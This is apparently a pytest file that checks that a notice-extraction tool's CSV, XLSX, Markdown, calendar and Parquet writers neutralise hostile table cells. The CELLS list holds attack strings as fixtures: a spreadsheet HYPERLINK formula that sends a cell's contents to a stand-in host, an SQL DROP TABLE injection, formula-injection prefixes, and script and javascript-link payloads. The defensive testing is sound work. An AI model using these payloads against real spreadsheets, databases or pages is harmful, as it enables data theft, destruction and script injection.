"""A hostile notice from its file to every output: read, written, opened again by others."""

import csv
import io
import zipfile

import icalendar
import openpyxl
import pytest
from lxml import html
from markdown_it import MarkdownIt
from pyarrow import parquet

from extractor import extract
from extractor.records import read_records
from extractor.writers import HEEDED, WRITERS, Options, write
from tests import naughty

CELLS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此办理")',
    "'; DROP TABLE tasks; --",
    "+1+1", "-2+3", "@SUM(1,1)", "＝１＋１",
    "含&#0;空字符", "含&#xD800;半个字符", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[点此](javascript:alert(1)) | 竖线 | ```",
    "完成\u202e整改\u2066工作",
    "长" * 102_400,
]  # fmt: skip


def page() -> bytes:
    """Return a web page of a notice whose table has these cells as tasks, units and remarks."""
    rows = "".join(
        f"<tr><td>{at}</td><td>{cell}</td><td>{cell}</td><td>县教育局</td><td>6月30日前</td></tr>"
        for at, cell in enumerate(CELLS, 1)
    )
    return (
        "<html><meta charset=utf-8><body><p>测政办〔2024〕3号</p>"
        "<h1>测试县人民政府办公室关于印发示例工作任务分解表的通知</h1><p>各乡（镇）人民政府：</p>"
        "<p>现印发给你们，请认真执行。</p><p>测试县人民政府办公室</p><p>2024年3月1日</p>"
        "<p>示例工作任务分解表</p><table border=1><tr><th>序号</th><th>工作任务</th><th>备注</th>"
        f"<th>责任单位</th><th>完成时限</th></tr>{rows}</table></body></html>"
    ).encode()


@pytest.fixture(scope="module")
def notice():
    found = extract(page(), name="=通知.html")
    assert len(found.tasks) == len(CELLS)
    return found


def written(notice, form, **options):
    out = io.BytesIO()
    write([notice], out, form=form, options=Options(**options))
    return out.getvalue()


@pytest.mark.parametrize("form", WRITERS)
def test_every_output_is_written_and_twice_the_same(form, notice):
    options = {name: True for name in HEEDED[form] if name not in {"headers", "columns"}}
    for chosen in ({}, options):
        assert written(notice, form, **chosen) == written(notice, form, **chosen) != b""


@pytest.mark.parametrize("form", ["json", "jsonl", "parquet"])
def test_what_is_lossless_gives_the_very_record_back(form, notice):
    (record,) = read_records(io.BytesIO(written(notice, form)), name="r")
    assert record.notice == notice


def test_no_cell_of_csv_and_of_the_package_runs(notice):
    with zipfile.ZipFile(io.BytesIO(written(notice, "datapackage"))) as package:
        files = [package.read(name) for name in package.namelist() if name.endswith(".csv")]
    assert len(files) > 8
    csv.field_size_limit(10**6)
    for data in [written(notice, "csv"), written(notice, "csv", explode=True), *files]:
        for row in csv.reader(io.StringIO(data.decode(), newline="")):
            assert all(cell[0] not in naughty.FORMULA_STARTS for cell in row if cell)


def test_no_cell_of_the_ledger_runs_and_only_the_long_ones_are_cut(notice):
    book = openpyxl.load_workbook(io.BytesIO(written(notice, "xlsx", explode=True)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {str(cell.value) for cell in cells}
    assert {notice.tasks[at].task for at in (0, 1, 4, 5)} <= texts


def test_the_page_of_markdown_has_no_script_and_no_link_of_the_notice_s(notice):
    page = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(written(notice, "md").decode())
    )
    tree = html.document_fromstring(page)
    assert tree.xpath("//script | //img | //a[starts-with(@href, 'javascript')]") == []


def test_the_calendar_has_its_events_and_no_others(notice):
    calendar = icalendar.Calendar.from_ical(written(notice, "ics"))
    assert len(calendar.events) == len(CELLS)
    assert {event.start.isoformat() for event in calendar.events} == {"2024-06-30"}


def test_the_table_of_parquet_holds_what_the_record_says(notice):
    table = parquet.read_table(io.BytesIO(written(notice, "parquet", flat=True)))
    assert table["task"].to_pylist() == [task.task for task in notice.tasks]
